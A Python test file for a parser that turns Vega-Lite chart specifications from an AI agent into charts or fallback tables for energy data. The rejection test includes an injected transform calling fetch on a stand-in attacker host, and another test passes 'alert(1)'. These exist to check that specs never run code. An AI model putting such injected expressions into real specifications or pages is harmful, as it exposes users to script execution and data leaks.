"""Vega-Lite specifications as a Cortex agent sends them: what is drawn, what becomes a table, and that nothing runs."""

from __future__ import annotations

import datetime as dt
import json
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.assistant.results import ChartSpec
from app.assistant.vega import VegaChart, vega_chart

ROWS = [
    {"MONTH": "2026-01-01", "FEEDER": "F0001", "KWH": 10, "PEAK": 2.5},
    {"MONTH": "2026-01-01", "FEEDER": "F0002", "KWH": 30, "PEAK": 4.5},
    {"MONTH": "2026-02-01", "FEEDER": "F0001", "KWH": 20, "PEAK": 3.5},
]
X, Y = {"field": "MONTH", "type": "temporal"}, {"field": "KWH", "type": "quantitative"}


def read(mark: Any = "bar", rows: Any = ROWS, **encoding: Any) -> VegaChart:
    return vega_chart(
        json.dumps(
            {"$schema": "vega-lite/v5", "title": "Energy", "mark": mark, "data": {"values": rows}, "encoding": encoding}
        )
    )


def test_lines_of_a_series_each() -> None:
    found = read({"type": "line", "point": True}, x=X, y=Y, color={"field": "FEEDER", "type": "nominal"})
    assert found.chart == ChartSpec("line", "MONTH", ("F0001", "F0002"), "Energy")
    assert found.table.to_pylist() == [
        {"MONTH": dt.date(2026, 1, 1), "F0001": 10.0, "F0002": 30.0},
        {"MONTH": dt.date(2026, 2, 1), "F0001": 20.0, "F0002": None},  # not known, not zero
    ]


@pytest.mark.parametrize(
    ("mark", "kind"), [("area", "line"), ("point", "scatter"), ("circle", "scatter"), ("bar", "bar")]
)
def test_marks(mark: str, kind: str) -> None:
    found = read(mark, [ROWS[0], ROWS[2]], x=X, y=Y)
    assert found.chart == ChartSpec(kind, "MONTH", ("KWH",), "Energy")  # type: ignore[arg-type]


def test_bars_that_lie_are_turned_and_sorted() -> None:
    found = read(rows=ROWS[:2], y={"field": "FEEDER", "type": "nominal", "sort": "-x"}, x=Y)
    assert found.chart == ChartSpec("bar", "FEEDER", ("KWH",), "Energy")
    assert found.table["FEEDER"].to_pylist() == ["F0002", "F0001"]


def test_a_pie_is_bars() -> None:
    found = read("arc", ROWS[:2], theta=Y, color={"field": "FEEDER"})
    assert found.chart == ChartSpec("bar", "FEEDER", ("KWH",), "Energy")


def test_rows_are_combined() -> None:
    summed = read(x={"field": "FEEDER", "type": "nominal"}, y={**Y, "aggregate": "sum"})
    assert summed.table.sort_by("FEEDER").to_pylist() == [
        {"FEEDER": "F0001", "KWH": 30.0},
        {"FEEDER": "F0002", "KWH": 30.0},
    ]
    counted = read(x={"field": "FEEDER", "type": "nominal"}, y={"aggregate": "count"})
    assert counted.chart == ChartSpec("bar", "FEEDER", ("count",), "Energy")
    assert sorted(counted.table["count"].to_pylist()) == [1, 2]


@pytest.mark.parametrize(
    ("values", "meant"), [([10, 20], 15.0), ([1, 1000], 500.5), ([3, 1, 2], 2.0), ([None, 4], 4.0), ([None], None)]
)
def test_a_median_is_exact(values: list[float | None], meant: float | None) -> None:
    rows = [{"FEEDER": "F0001", "KWH": value} for value in values] + [{"FEEDER": "F0002", "KWH": 7}]
    spec = {
        "mark": "bar", "data": {"values": rows},
        "encoding": {"x": {"field": "FEEDER", "type": "nominal"},
                     "y": {"field": "KWH", "type": "quantitative", "aggregate": "median"}},
    }  # fmt: skip
    assert vega_chart(json.dumps(spec)).table.to_pylist() == [
        {"FEEDER": "F0001", "KWH": meant},
        {"FEEDER": "F0002", "KWH": 7.0},
    ]


def test_layers_that_share_an_axis() -> None:
    spec = {
        "data": {"name": "rows"}, "datasets": {"rows": [ROWS[0], ROWS[2]]}, "encoding": {"x": X},
        "layer": [{"mark": "line", "encoding": {"y": Y}}, {"mark": "text", "encoding": {"y": Y, "text": Y}},
                  {"mark": "line", "encoding": {"y": {"field": "PEAK", "type": "quantitative"}}}],
    }  # fmt: skip
    assert vega_chart(json.dumps(spec)).chart == ChartSpec("line", "MONTH", ("KWH", "PEAK"), "Chart")


def test_rows_of_the_table_before_it_are_drawn() -> None:
    table = pa.table({"FEEDER": ["F0001"], "KWH": [1.0]})
    text = json.dumps({"mark": "bar", "encoding": {"x": {"field": "FEEDER"}, "y": Y}})
    found = vega_chart(text, table)
    assert found.table == table
    assert found.chart is not None
    assert vega_chart(text).note == "The chart 'Chart' came without rows."


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"facet": {"field": "FEEDER"}, "spec": {}}, "facet"),
        ({"hconcat": [{}]}, "hconcat"),
        ({"mark": "geoshape"}, "marks are not drawn"),
        ({"mark": "boxplot"}, "marks are not drawn"),
        ({"transform": [{"calculate": "datum.KWH * fetch('http://evil.example')", "as": "z"}]}, "transform"),
        ({"encoding": {"x": X, "y": {"field": "NOWHERE", "type": "quantitative"}}}, "a column NOWHERE"),
        ({"encoding": {"x": X, "y": {"field": "FEEDER"}}}, "holds no numbers"),
        ({"encoding": {"x": {"field": "FEEDER"}, "y": Y, "color": {"field": "MONTH"}}}, "series over names"),
        ({"encoding": {"x": X}}, "nothing of y"),
        ({"encoding": {"x": {**X, "timeUnit": "year"}, "y": Y}}, "into bins"),
        ({"encoding": {"x": X, "y": {**Y, "aggregate": "q1"}}}, "by q1"),
        ({"encoding": {"x": X, "y": Y, "color": {"field": "PEAK"}}, "data": {"values": [
            {"MONTH": "2026-01-01", "KWH": 1, "PEAK": n} for n in range(30)]}}, "30 series"),
    ],
)  # fmt: skip
def test_what_cannot_be_drawn_is_a_table_and_says_so(changes: dict[str, Any], why: str) -> None:
    spec = {"mark": "bar", "data": {"values": ROWS}, "encoding": {"x": X, "y": Y}, **changes}
    found = vega_chart(json.dumps(spec))
    assert found.chart is None
    assert found.table.num_rows
    assert why in found.note


WORDS = st.sampled_from(
    ["bar", "line", "x", "field", "KWH", "MONTH", "2026-01-01", "sum", "count", "-y", "quantitative"]
)
ANYTHING = st.recursive(
    st.none() | st.booleans() | st.floats(allow_nan=False) | WORDS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(WORDS, inner, max_size=3), max_leaves=6,
)  # fmt: skip
CHANNEL = ANYTHING | st.dictionaries(
    st.sampled_from(["field", "type", "aggregate", "sort", "bin", "timeUnit"]), ANYTHING | WORDS, max_size=4
)
ENCODING = ANYTHING | st.dictionaries(st.sampled_from(["x", "y", "color", "theta", "detail"]), CHANNEL, max_size=4)
VALUES = (
    ANYTHING
    | st.lists(ANYTHING | st.dictionaries(st.sampled_from(["KWH", "MONTH"]), ANYTHING), max_size=4)
    | st.just(ROWS)
)
PART = st.fixed_dictionaries(
    {}, optional={
        "mark": ANYTHING | WORDS, "encoding": ENCODING, "data": ANYTHING | st.fixed_dictionaries({"values": VALUES}),
        "title": ANYTHING, "datasets": ANYTHING, "facet": ANYTHING,
    },
)  # fmt: skip
SPEC = (
    ANYTHING
    | PART
    | st.builds(lambda part, layers: {**part, "layer": layers}, PART, ANYTHING | st.lists(PART | ANYTHING, max_size=3))
)


@given(SPEC)
def test_no_specification_breaks_it(spec: Any) -> None:
    assert isinstance(vega_chart(json.dumps(spec)), VegaChart)


def test_what_is_no_json() -> None:
    assert vega_chart("alert(1)").note == "The chart that came with the answer cannot be read."
